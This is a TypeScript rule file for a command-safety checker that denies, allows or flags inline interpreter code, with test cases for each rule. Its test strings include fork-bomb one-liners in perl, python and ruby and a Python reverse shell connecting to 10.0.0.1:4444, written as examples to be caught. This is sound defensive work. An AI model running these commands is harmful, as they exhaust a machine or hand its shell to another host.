/** Rules about program text in other languages: what is plainly harmful, what is plainly harmless. */
import type { Call } from "../call.ts";
import { deedsOf } from "../grammar/inline.ts";
import { isPure } from "../grammar/pure.ts";
import { defineRule, type Rule } from "../rule.ts";

const OTHER = new Set(["python", "javascript", "perl", "ruby", "php", "lua", "other"]);

/** Inline texts of the call in languages other than the shell's. */
function texts(
  call: Call,
): readonly { readonly text: string; readonly language: string; readonly span: Call["span"] }[] {
  return call.code.flatMap(({ text, language, span }) =>
    text !== null && OTHER.has(language) ? [{ text, language, span }] : []
  );
}

const forkBomb = defineRule({
  id: "interpreters.fork_bomb",
  verdict: "deny",
  reason: "A program that starts copies of itself without end fills the machine",
  when: (call) => texts(call).find(({ text, language }) => deedsOf(text, language).forks),
  match: [
    "perl -e 'fork while fork'",
    "python3 -c 'import os\nwhile True: os.fork()'",
    "ruby -e 'loop { fork }'",
  ],
  notMatch: ["python3 -c 'print(\"fork\")'", "perl -e 'print 1'"],
});

const reverseShell = defineRule({
  id: "interpreters.reverse_shell",
  verdict: "deny",
  reason: "Connects a shell on this machine to another one",
  when: (call) => texts(call).find(({ text, language }) => deedsOf(text, language).shellOverSocket),
  match: [
    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
    "perl -e 'use Socket;socket(S,2,1,6);exec(\"/bin/sh -i\");'".replace("socket(S", "IO::Socket(S"),
  ],
  notMatch: ["python3 -c 'import socket;print(socket.gethostname())'"],
});

/** All its texts only compute and print. */
function computes(call: Call): boolean {
  const found = texts(call);
  return found.length > 0 && found.every(({ text, language }) => isPure(text, language)) && arguable(call);
}

const harmless = defineRule({
  id: "interpreters.pure",
  verdict: "allow",
  reason: "Only computes and prints",
  when: computes,
  match: [
    "python3 -c 'print(1)'",
    "python3 -c 'import sys,json; print(json.load(sys.stdin)[\"name\"])'",
    "node -p 'process.version'",
    "node -e 'console.log(JSON.stringify({a: 1}))'",
    "perl -e 'print 1 + 2'",
    "node -p \"require('./package.json').version\"",
    "perl -ne 'print if /abc/' f",
    "ruby -e 'puts RUBY_VERSION'",
  ],
  notMatch: [
    'python3 -c \'open("x", "w")\'',
    "node -e 'require(\"fs\")'",
    "perl -e 'system \"ls\"'",
    "perl -i -pe s/a/b/ f",
    "perl -ne print 'ls|'",
    'node -e \'[]["filter"]["constr"+"uctor"]("x")()\'',
  ],
});

/** Perl opens `ls|` and `>x` among its operands as programs and files to write. */
function arguable(call: Call): boolean {
  if (call.effects.some((effect) => effect.kind !== "read" && effect.redirect !== true)) return false;
  // With -n and -p the operands are opened one by one, and the text can change which.
  if (
    call.code.some((code) => /\bARGV\b/.test(code.text ?? "")) &&
    call.args.some((word) => /^-\w*[np]/.test(word.value ?? ""))
  ) return false;
  // Of these nothing but the text: an operand of lua is a script, `-d` of php sets a file to load.
  if (call.code.some(({ language }) => /^(?:ruby|lua|php)$/.test(language))) {
    return call.args.every((word) =>
      /^-(?:[ernpwl]|le|ne|pe|lne|lpe|nle|ple)$/.test(word.value ?? "") || isCode(word, call)
    );
  }
  return !/^(?:perl|ruby)/.test(call.name) ||
    call.args.every((word, index) =>
      index === 0 || word.value !== null && !/[|<>]\s*$|^\s*[|<>]/.test(word.value) || isCode(word, call)
    );
}

function isCode(word: Call["program"], call: Call): boolean {
  return call.code.some((code) => code.span.start === word.span.start);
}

const inline = defineRule({
  id: "interpreters.inline",
  verdict: "ask",
  reason: "Runs program text in a language whose effects are not followed",
  safer: "Use a plain command, or a script file that a person can read",
  when: (call) => {
    const found = texts(call);
    if (found.length === 0 || computes(call)) return false;
    return found.find(({ text, language }) => !isPure(text, language)) ?? true;
  },
  match: [
    'python3 -c \'open("x", "w")\'',
    "node -e 'require(\"fs\")'",
    "ruby -e 'system 1'",
    "perl -i -pe s/a/b/ f",
    "echo 'import os' | python3",
  ],
  notMatch: ["python3 -c 'print(1)'", "python3 -V", "bash -c ls"],
});

/** Rules about other languages. */
export const interpreters: readonly Rule[] = [forkBomb, reverseShell, harmless, inline];
